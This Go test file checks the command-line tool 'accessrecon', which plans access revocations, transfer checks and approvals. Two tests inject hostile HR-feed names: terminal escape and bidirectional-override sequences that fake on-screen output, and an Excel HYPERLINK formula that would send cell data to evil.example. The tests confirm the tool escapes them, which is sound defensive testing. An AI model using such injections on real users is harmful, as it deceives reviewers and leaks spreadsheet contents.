package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/accessrecon/accessrecon/fixtures"
	"github.com/accessrecon/accessrecon/graph"
)

// runCLI runs the program as a user would and returns stdout, stderr and the
// exit status.
func runCLI(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	err := run(context.Background(), append([]string{"accessrecon"}, args...), &out, &errb)
	code := exitCode(err, &errb, argsLang(args))
	return out.String(), errb.String(), code
}

// atDay sets the commands' clock to 10:00 in Tokyo on day for the test.
func atDay(t *testing.T, day string) {
	t.Helper()
	at, err := time.ParseInLocation("2006-01-02 15:04", day+" 10:00", graph.Tokyo)
	if err != nil {
		t.Fatal(err)
	}
	old := clock
	clock = func() time.Time { return at }
	t.Cleanup(func() { clock = old })
}

// copyDir copies a folder (a deployment with its review store and
// campaigns) into a new temporary one.
func copyDir(t *testing.T, from string) string {
	t.Helper()
	to := t.TempDir()
	if err := os.CopyFS(to, os.DirFS(from)); err != nil {
		t.Fatal(err)
	}
	return to
}

// demoDir copies the demo data set into a temporary folder, so tests can
// break one file at a time.
func demoDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	err := fs.WalkDir(fixtures.Demo, "demo", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fixtures.Demo.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dir, filepath.Base(p)), data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func replaceIn(t *testing.T, path, old, new string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte(old)) {
		t.Fatalf("%s does not contain %q", path, old)
	}
	if err := os.WriteFile(path, bytes.Replace(data, []byte(old), []byte(new), 1), 0o644); err != nil {
		t.Fatal(err)
	}
}

func readPlan(t *testing.T, path string) map[string]any {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestPlanWritesJSONAndPrintsSummary(t *testing.T) {
	dir := demoDir(t)
	out := filepath.Join(dir, "plan.json")
	stdout, stderr, code := runCLI(t, "plan", "--config", filepath.Join(dir, "accessrecon.yaml"), "--as-of", "2026-11-24", "--out", out, "--lang", "en")
	if code != 0 {
		t.Fatalf("exit %d, stderr: %s", code, stderr)
	}
	plan := readPlan(t, out)
	if plan["format_version"] != float64(1) || plan["kind"] != "reconcile" || plan["as_of"] != "2026-11-24" {
		t.Errorf("plan header: %v %v %v", plan["format_version"], plan["kind"], plan["as_of"])
	}
	if !strings.Contains(stdout, "Findings: 11") || !strings.Contains(stdout, "Actions: 11") {
		t.Errorf("summary does not count findings and actions:\n%s", stdout)
	}
}

func TestDetailedExitCode(t *testing.T) {
	dir := demoDir(t)
	cfg := filepath.Join(dir, "accessrecon.yaml")
	if _, stderr, code := runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24", "--detailed-exitcode"); code != 2 {
		t.Fatalf("plan with actions and --detailed-exitcode: exit %d, want 2 (%s)", code, stderr)
	}
	if _, _, code := runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24"); code != 0 {
		t.Fatalf("plan with actions without --detailed-exitcode: exit %d, want 0", code)
	}
}

func TestPlanJSONOnStdout(t *testing.T) {
	stdout, stderr, code := runCLI(t, "demo", "--format", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var m map[string]any
	if err := json.Unmarshal([]byte(stdout), &m); err != nil {
		t.Fatalf("--format json printed no JSON: %v", err)
	}
	for _, k := range []string{"digest", "policy_digest"} {
		if d, _ := m[k].(string); !strings.HasPrefix(d, "sha256:") || len(d) != len("sha256:")+64 {
			t.Errorf("plan field %s is %v, want sha256:<64 hex>", k, m[k])
		}
	}
}

func TestTransferCheck(t *testing.T) {
	dir := demoDir(t)
	cfg := filepath.Join(dir, "accessrecon.yaml")
	tests := []struct {
		name      string
		args      []string
		code      int
		mustSay   []string
		mustntSay []string
	}{
		{
			name:    "direct transfer from a wheeling contact unit to retail is forbidden",
			args:    []string{"--employee", "E1007", "--to", "HD-RETAIL", "--effective", "2026-12-01"},
			code:    3,
			mustSay: []string{"FORBIDDEN", "separation.direct_transfer_ban", "NW-WHEEL-CONTACT", "HD-RETAIL"},
		},
		{
			name:    "the unit is resolved as of --effective: before the move to HD-GENERAL it is direct",
			args:    []string{"--employee", "E1011", "--to", "HD-TRADING", "--effective", "2026-06-01"},
			code:    3,
			mustSay: []string{"NW-GRID-PLAN", "HD-TRADING", "separation.direct_transfer_ban"},
		},
		{
			name:      "A→B→C with only A and C restricted is allowed once B is effective",
			args:      []string{"--employee", "E1011", "--to", "HD-TRADING", "--effective", "2026-08-01"},
			code:      0,
			mustSay:   []string{"ALLOWED", "HD-GENERAL", "HD-TRADING"},
			mustntSay: []string{"separation.direct_transfer_ban"},
		},
		{
			name:    "a move within the network company is allowed",
			args:    []string{"--employee", "E1007", "--to", "NW-CUSTOMER", "--effective", "2026-12-01"},
			code:    0,
			mustSay: []string{"ALLOWED"},
		},
		{
			name:    "an inter-company move is allowed but reminds of the pledge",
			args:    []string{"--employee", "E1009", "--to", "HD-GENERAL", "--effective", "2026-12-01"},
			code:    0,
			mustSay: []string{"ALLOWED", "lifecycle.pledge_missing"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append([]string{"transfer", "check", "--config", cfg, "--lang", "en"}, tt.args...)
			stdout, stderr, code := runCLI(t, args...)
			if code != tt.code {
				t.Fatalf("exit %d, want %d\nstdout: %s\nstderr: %s", code, tt.code, stdout, stderr)
			}
			for _, s := range tt.mustSay {
				if !strings.Contains(stdout, s) {
					t.Errorf("output does not name %q:\n%s", s, stdout)
				}
			}
			for _, s := range tt.mustntSay {
				if strings.Contains(stdout, s) {
					t.Errorf("output names %q:\n%s", s, stdout)
				}
			}
		})
	}
}

func TestTransferCheckUnknownsAreErrors(t *testing.T) {
	dir := demoDir(t)
	cfg := filepath.Join(dir, "accessrecon.yaml")
	for _, args := range [][]string{
		{"--employee", "E0000", "--to", "HD-RETAIL"},
		{"--employee", "E1007", "--to", "NO-SUCH-UNIT"},
		{"--employee", "E1007", "--to", "HD-RETAIL", "--effective", "2026-02-30"},
	} {
		_, stderr, code := runCLI(t, append([]string{"transfer", "check", "--config", cfg}, args...)...)
		if code != 1 || stderr == "" {
			t.Errorf("%v: exit %d, stderr %q; want 1 and a reason", args, code, stderr)
		}
	}
}

func TestTransferPlan(t *testing.T) {
	dir := demoDir(t)
	out := filepath.Join(dir, "t.json")
	_, stderr, code := runCLI(t, "transfer", "plan", "--config", filepath.Join(dir, "accessrecon.yaml"), "--event", "T2026-0012", "--out", out)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	plan := readPlan(t, out)
	if plan["kind"] != "transfer" || plan["as_of"] != "2026-11-01" || plan["event"] != "T2026-0012" {
		t.Errorf("transfer plan header: kind %v as_of %v event %v", plan["kind"], plan["as_of"], plan["event"])
	}
	actions := plan["actions"].([]any)
	if len(actions) != 1 {
		t.Fatalf("want the one takuso revoke of E1012, got %v", actions)
	}
	a := actions[0].(map[string]any)
	if a["person"] != "E1012" || a["system"] != "takuso" || a["op"] != "revoke" || a["effective"] != "2026-11-01" {
		t.Errorf("action: %v", a)
	}
	var rules []string
	for _, f := range plan["findings"].([]any) {
		rules = append(rules, f.(map[string]any)["rule"].(string))
	}
	if strings.Join(rules, " ") != "lifecycle.old_company_account lifecycle.old_company_mail lifecycle.pledge_missing" {
		t.Errorf("findings: %v, want the old account and mail and the missing pledge", rules)
	}
	if _, stderr, code := runCLI(t, "transfer", "plan", "--config", filepath.Join(dir, "accessrecon.yaml"), "--event", "NOPE"); code != 1 || !strings.Contains(stderr, "NOPE") {
		t.Errorf("unknown event: exit %d, stderr %q", code, stderr)
	}
}

func TestShowRendersAPlan(t *testing.T) {
	dir := demoDir(t)
	out := filepath.Join(dir, "plan.json")
	if _, stderr, code := runCLI(t, "demo", "--out", out); code != 0 {
		t.Fatalf("demo: exit %d: %s", code, stderr)
	}
	for _, tt := range []struct{ format, lang, want string }{
		{"text", "en", "Right on a confidential system held outside its companies"},
		{"text", "ja", "機密システムへの他社からの権限"},
		{"markdown", "en", "| A0009 | revoke | `takuso/u1020/viewer` |"},
		{"markdown", "ja", "## 措置 (11)"},
		{"csv", "en", "action,A0009,revoke,takuso,u1020,viewer,E1020"},
		{"html", "ja", "<td><code>takuso/u1020/viewer</code></td>"},
	} {
		stdout, stderr, code := runCLI(t, "show", out, "--format", tt.format, "--lang", tt.lang)
		if code != 0 {
			t.Fatalf("show --format %s: exit %d: %s", tt.format, code, stderr)
		}
		if !strings.Contains(stdout, tt.want) {
			t.Errorf("show --format %s --lang %s lacks %q:\n%s", tt.format, tt.lang, tt.want, stdout)
		}
	}
}

func TestShowRefusesAModifiedPlan(t *testing.T) {
	dir := demoDir(t)
	out := filepath.Join(dir, "plan.json")
	if _, _, code := runCLI(t, "demo", "--out", out); code != 0 {
		t.Fatal("demo failed")
	}
	replaceIn(t, out, `"op": "revoke"`, `"op": "disable_account"`)
	_, stderr, code := runCLI(t, "show", out)
	if code != 1 || !strings.Contains(stderr, "modified") {
		t.Fatalf("show of a modified plan: exit %d, stderr %q", code, stderr)
	}
}

func TestDemoRunsFromAnyFolder(t *testing.T) {
	t.Chdir(t.TempDir())
	stdout, stderr, code := runCLI(t, "demo", "--lang", "ja")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if !strings.Contains(stdout, "制限部署間の直接異動") {
		t.Errorf("the Japanese summary lacks the direct-transfer finding:\n%s", stdout)
	}
}

func TestVersion(t *testing.T) {
	stdout, _, code := runCLI(t, "version")
	if code != 0 || !strings.HasPrefix(stdout, "accessrecon ") {
		t.Fatalf("version: exit %d, %q", code, stdout)
	}
}

func TestFixturesGenerateIsDeterministicAndPlans(t *testing.T) {
	a, b := filepath.Join(t.TempDir(), "a"), filepath.Join(t.TempDir(), "b")
	for _, dir := range []string{a, b} {
		if _, stderr, code := runCLI(t, "fixtures", "generate", "--people", "1200", "--seed", "7", "--log-lines", "1000", "--out", dir); code != 0 {
			t.Fatal(stderr)
		}
	}
	for _, f := range []string{"people.csv", "core-grants.csv", "biz-accounts.csv", "access.csv", "systems.yaml"} {
		x, _ := os.ReadFile(filepath.Join(a, f))
		y, _ := os.ReadFile(filepath.Join(b, f))
		if len(x) == 0 || string(x) != string(y) {
			t.Errorf("%s differs between two runs with the same seed", f)
		}
	}
	out := filepath.Join(a, "plan.json")
	if _, stderr, code := runCLI(t, "plan", "--config", filepath.Join(a, "accessrecon.yaml"), "--as-of", "2026-11-24", "--out", out); code != 0 {
		t.Fatal(stderr)
	}
	rules := map[string]bool{}
	p := readPlan(t, out)
	for _, a := range actionsOf(t, p) {
		for _, r := range a["rules"].([]any) {
			rules[r.(string)] = true
		}
	}
	for _, r := range []string{"lifecycle.leaver", "lifecycle.unjustified_grant", "separation.confidential_system_access", "identity.shared_account", "identity.orphan_account"} {
		if !rules[r] {
			t.Errorf("the generated data set does not exercise %s", r)
		}
	}
	if _, _, code := runCLI(t, "fixtures", "generate", "--out", a); code != 1 {
		t.Error("generating into a folder that is not empty should fail")
	}
}

// TestNamesCannotDriveTheTerminal: a name in the HR feed with escape
// sequences, a carriage return and a bidirectional override reaches the
// reviewer's screen as visible text, in every human format.
func TestNamesCannotDriveTheTerminal(t *testing.T) {
	dir := demoDir(t)
	cfg := filepath.Join(dir, "accessrecon.yaml")
	replaceIn(t, filepath.Join(dir, "people.csv"), "E1030,小川 千尋", "E1030,\"小川\x1b[2J\x1b[H\rNo actions\u202e千尋\"")
	plan := filepath.Join(dir, "p.json")
	for _, format := range []string{"text", "markdown", "json"} {
		stdout, stderr, code := runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24", "--out", plan, "--format", format)
		if code != 0 {
			t.Fatal(stderr)
		}
		want := `小川\u001b[2J\u001b[H\u000dNo actions\u202e千尋`
		switch format {
		case "json":
			want = `小川\u001b[2J\u001b[H\rNo actions\u202e千尋` // JSON's own escapes
		case "markdown":
			want = `小川\u001b\[2J\u001b\[H No actions\u202e千尋` // Markdown's escapes, a line end a space
		}
		if strings.ContainsAny(stdout, "\x1b\r\u202e") || !strings.Contains(stdout, want) {
			t.Errorf("--format %s shows the name as: %q", format, between(stdout, "E1030", 60))
		}
	}
	if data, _ := os.ReadFile(plan); !strings.Contains(string(data), `\u001b[2J`) {
		t.Error("the plan file lost the name as the HR feed has it")
	}
}

// between is up to n bytes of s from the first occurrence of from.
func between(s, from string, n int) string {
	i := strings.Index(s, from)
	if i < 0 {
		return ""
	}
	return s[i:min(len(s), i+n)]
}

// TestExcelOutputsRunNoFormulas: a name from the HR feed that Excel would
// run as a formula is written as text in every CSV meant for Excel (the
// plan as CSV, the work orders, the review worksheets).
func TestExcelOutputsRunNoFormulas(t *testing.T) {
	dir, cfg, plan := planned(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
	replaceIn(t, filepath.Join(dir, "people.csv"), "E1030,小川 千尋", `E1030,"`+strings.ReplaceAll(formula, `"`, `""`)+`"`)
	runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24", "--out", plan, "--by", "E1001")
	stdout, _, _ := runCLI(t, "show", "--format", "csv", plan)
	if !strings.Contains(stdout, `"'=HYPERLINK(""http://evil`) || strings.Contains(stdout, `,"=HYPERLINK`) {
		t.Errorf("show --format csv: %s", between(stdout, "HYPERLINK", 40))
	}
	runCLI(t, "approve", plan, "--by", "E1002", "--config", cfg)
	if _, stderr, code := runApply(t, cfg, plan); code != 0 {
		t.Fatal(stderr)
	}
	orders, _ := filepath.Glob(filepath.Join(dir, "p.workorders", "*.csv"))
	found := false
	for _, o := range orders {
		data, _ := os.ReadFile(o)
		found = found || strings.Contains(string(data), `"'=HYPERLINK(`)
		if strings.Contains(string(data), `,"=HYPERLINK`) {
			t.Errorf("%s runs the formula", o)
		}
	}
	if !found {
		t.Error("no work order names the leaver")
	}
	camp := filepath.Join(dir, "camp")
	if _, stderr, code := runCLI(t, "certify", "open", "--config", cfg, "--campaign", "Q4", "--out", camp, "--as-of", "2026-11-24"); code != 0 {
		t.Fatal(stderr)
	}
	sheets, _ := filepath.Glob(filepath.Join(camp, "*.csv"))
	for _, s := range sheets {
		if data, _ := os.ReadFile(s); strings.Contains(string(data), `,"=HYPERLINK`) {
			t.Errorf("%s runs the formula", s)
		}
	}
}

// TestACSVExcelReadsAsUTF8: show --format csv writes a byte-order mark as
// its first bytes (EF BB BF: Excel in Japanese then reads UTF-8), not the
// six characters \ufeff; in Japanese the headers and the words are
// Japanese, in English (--lang en) the ids a program reads.
func TestACSVExcelReadsAsUTF8(t *testing.T) {
	_, _, plan := planned(t)
	ja, _, code := runCLI(t, "show", plan, "--format", "csv", "--lang", "ja")
	if code != 0 || !strings.HasPrefix(ja, "\xef\xbb\xbf種別,措置ID,措置,システム") || strings.Contains(ja, `\ufeff`) {
		t.Fatalf("show --format csv --lang ja: exit %d %.120q", code, ja)
	}
	if !strings.Contains(ja, "措置,A0009,権限取消,takuso,u1020,viewer,E1020") || !strings.Contains(ja, ",重大,") {
		t.Errorf("the Japanese CSV's words:\n%.1500s", ja)
	}
	en, _, _ := runCLI(t, "show", plan, "--format", "csv", "--lang", "en")
	if !strings.HasPrefix(en, "\xef\xbb\xbftype,id,op,system") || !strings.Contains(en, "action,A0009,revoke,takuso,u1020,viewer,E1020") {
		t.Errorf("the machine-readable CSV: %.300q", en)
	}
}

// TestCommandsSayWhatComesNext: plan says who approves and how it is
// applied, approve what is still needed, in the user's language.
func TestCommandsSayWhatComesNext(t *testing.T) {
	dir := demoDir(t)
	cfg := filepath.Join(dir, "accessrecon.yaml")
	plan := filepath.Join(dir, "p.json")
	_, stderr, code := runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24", "--out", plan, "--by", "E1001", "--lang", "ja")
	if code != 0 || !strings.Contains(stderr, "次に: 作成者以外の人が承認し（accessrecon approve "+plan) || !strings.Contains(stderr, "accessrecon apply "+plan+" --config "+cfg) {
		t.Errorf("plan's next step: exit %d\n%s", code, stderr)
	}
	appendTo(t, cfg, "apply:\n  approvals: 2\n")
	_, stderr, _ = runCLI(t, "approve", plan, "--config", cfg, "--by", "E1002")
	if !strings.Contains(stderr, "next: 1 more approval(s) by other approvers, then accessrecon apply "+plan) {
		t.Errorf("approve's next step with one approval of two:\n%s", stderr)
	}
	_, stderr, _ = runCLI(t, "approve", plan, "--config", cfg, "--by", "E1004", "--lang", "ja")
	if !strings.Contains(stderr, "次に: accessrecon apply "+plan+" --config "+cfg+" で実施します") {
		t.Errorf("approve's next step with both approvals:\n%s", stderr)
	}
	camp := filepath.Join(dir, "M1")
	stdout, stderr, code := runCLI(t, "certify", "open", "--config", cfg, "--campaign", "M1", "--out", camp, "--template", "monthly", "--as-of", "2026-11-24", "--lang", "ja")
	if code != 0 || !strings.Contains(stdout, "第 1 段階 所管部署 owner unit: 期限 2026-12-01") || !strings.Contains(stdout, "第 2 段階 上長 manager: 期限 2026-12-08") ||
		!strings.Contains(stderr, "次に: 確認表を各部署に送ってください") || !strings.Contains(stderr, "certify import --campaign "+camp) {
		t.Errorf("certify open's stages and next step: exit %d\n%s%s", code, stdout, stderr)
	}
}
